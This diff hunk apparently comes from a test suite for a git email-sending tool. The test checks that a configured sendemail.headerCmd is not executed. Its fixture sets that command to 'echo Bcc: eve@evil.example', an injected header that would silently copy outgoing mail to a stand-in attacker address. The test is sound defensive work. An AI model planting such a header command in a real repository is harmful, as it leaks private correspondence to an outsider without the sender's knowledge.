@@ -97,7 +97,7 @@ def test_a_header_command_in_the_configuration_stops_nothing(tmp_path: Path) -> 
     """An older git does not know it, and fails over the option that switches it off."""
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
-        repo.git("config", "sendemail.headerCmd", "echo Bcc: eve@evil.example")
+        repo.git("config", "--global", "sendemail.headerCmd", "echo Bcc: eve@evil.example")
         done = call("send", "-C", repo.path, "--to", "l@lists.example.org", "--force", "x", "--yes")
         assert done.code == 0, done.err
         assert "sendemail.headerCmd is not run" in done.out
